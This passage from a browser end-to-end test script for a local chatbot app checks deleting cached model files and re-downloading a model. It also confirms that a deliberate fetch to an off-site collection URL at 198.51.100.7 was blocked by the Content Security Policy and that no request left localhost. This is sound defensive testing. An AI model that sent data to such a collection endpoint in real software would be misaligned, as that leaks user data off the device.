        await page.click(`[data-testid="cached-model"][data-key="${key}"] [data-testid="delete-model"]`);
        await page.waitForFunction((k) => !document.querySelector(`[data-testid="cached-model"][data-key="${k}"]`), key);
    }
    cachedRows = await rowsOf();
    assert.ok(!rowOf("/models/partial.gguf") && cachedRows.every((r) => r.key !== orphan), JSON.stringify(cachedRows));
    assert.match(await page.textContent(".notice"), /Deleted from this device/);
    assert.equal(await cachedModel(page, new URL("/models/partial.gguf", BASE).href), null, "the partial file is still there");
    const left = await page.evaluate(async () => {
        const dir = await (await navigator.storage.getDirectory()).getDirectoryHandle("carebot-models");
        const names = [];
        for await (const name of dir.keys()) names.push(name);
        return names;
    });
    assert.ok(!left.some((n) => n.startsWith(orphan)), JSON.stringify(left));
    // The loaded model is untouched, and Escape closes the manager.
    assert.equal(await page.getAttribute('[data-testid="model-status"]', "data-state"), "ready");
    await page.page.keyboard.press("Escape");
    await page.waitForFunction(() => !document.querySelector('[data-testid="models"]'));
    log("model manager: a partial download and an unexplained file deleted, the loaded model kept");
    await page.close();

    // 8. The cached model can be deleted; the next visit would download it again.
    step = "delete cache";
    page = await open("?model=/models/tiny.gguf&system=");
    await waitState(page, ["ready"]);
    await page.click('[data-testid="model-status"] summary');
    const before = requests.filter((p) => p === "/models/tiny.gguf").length;
    await page.click('[data-testid="delete-cache"]');
    // Deleted: looking at the model again has to download it.
    await page.waitForFunction(() => document.querySelector(".notice"));
    assert.notEqual(await waitState(page, ["probed", "ready", "failed"]), "failed");
    assert.ok(requests.filter((p) => p === "/models/tiny.gguf").length > before, "the model was not downloaded again");
    await page.close();

    // The refused fetch of step 1 logs a CSP error on purpose (Firefox reports it a while later).
    assert.deepEqual(consoleErrors.filter((e) => !e.includes("http://198.51.100.7/collect")), [], "console errors");
    assert.deepEqual(offsite, [], "requests left 127.0.0.1");
    log("all browser checks passed");
} catch (e) {
    await failed(e, step, { pages, consoleErrors }, "failure.png");
} finally {
    await browser.close();
    server.close();
}
